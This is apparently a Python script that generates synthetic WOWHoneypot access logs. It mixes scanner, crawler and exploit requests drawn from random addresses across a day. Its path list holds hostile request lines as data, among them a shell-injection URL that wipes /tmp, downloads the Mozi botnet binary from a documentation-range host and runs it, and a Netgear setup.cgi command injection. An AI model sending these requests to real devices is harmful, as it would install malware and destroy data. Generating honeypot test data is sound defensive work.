#!/usr/bin/env python3
"""gen_access_log.py N DATE OUT - writes N WOWHoneypot access_log lines spread over DATE (JST):
a deterministic mix of scanners, exploits and crawlers from ~50,000 addresses, about 300 bytes a
line (request line, headers and base64 as WOWHoneypot writes them)."""
import base64
import random
import sys

n, date, out = int(sys.argv[1]), sys.argv[2], sys.argv[3]
rnd = random.Random(42)
paths = ["/", "/.env", "/wp-login.php", "/phpinfo.php", "/.git/config", "/admin/config.php",
         "/cgi-bin/luci/;stok=/locale", "/boaform/admin/formLogin", "/HNAP1/",
         "/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.10/Mozi.m;chmod+777+Mozi.m;/tmp/Mozi.m+jaws",
         "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/solr/admin/info/system",
         "/actuator/health", "/owa/auth/logon.aspx", "/GponForm/diag_Form?images/",
         "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*", "/robots.txt",
         "/favicon.ico", "/api/v1/pods", "/console/"] + [f"/scan/{i}.php" for i in range(400)]
uas = ["Mozilla/5.0 zgrab/0.x", "curl/7.88.1", "Hello, world", "python-requests/2.31.0",
       "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
       "Chrome/120.0 Safari/537.36", "Go-http-client/1.1", "Mozila/5.0", "masscan/1.3",
       "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)"]
ips = [f"{rnd.randint(1, 223)}.{rnd.randint(0, 255)}.{rnd.randint(0, 255)}.{rnd.randint(1, 254)}"
       for _ in range(50000)]
combos = []
for p in paths:
    for ua in uas:
        m = "POST" if "luci" in p or "boaform" in p else "GET"
        raw = f"{m} {p} HTTP/1.1\nHost: 192.0.2.1:80\nUser-Agent: {ua}\nAccept: */*\n" \
              f"Connection: close\n\n"
        combos.append((f'"{m} {p} HTTP/1.1"', base64.b64encode(raw.encode()).decode(),
                       "1011" if p == "/wp-login.php" else "False"))
with open(out, "w") as f:
    w = f.write
    for i in range(n):
        s = i * 86400 // n
        rl, b64, rule = combos[rnd.randrange(len(combos))]
        w(f"[{date} {s // 3600:02d}:{s // 60 % 60:02d}:{s % 60:02d}+0900] "
          f"{ips[int(rnd.paretovariate(1.2)) % len(ips)]} 192.0.2.1:80 {rl} 200 {rule} {b64}\n")
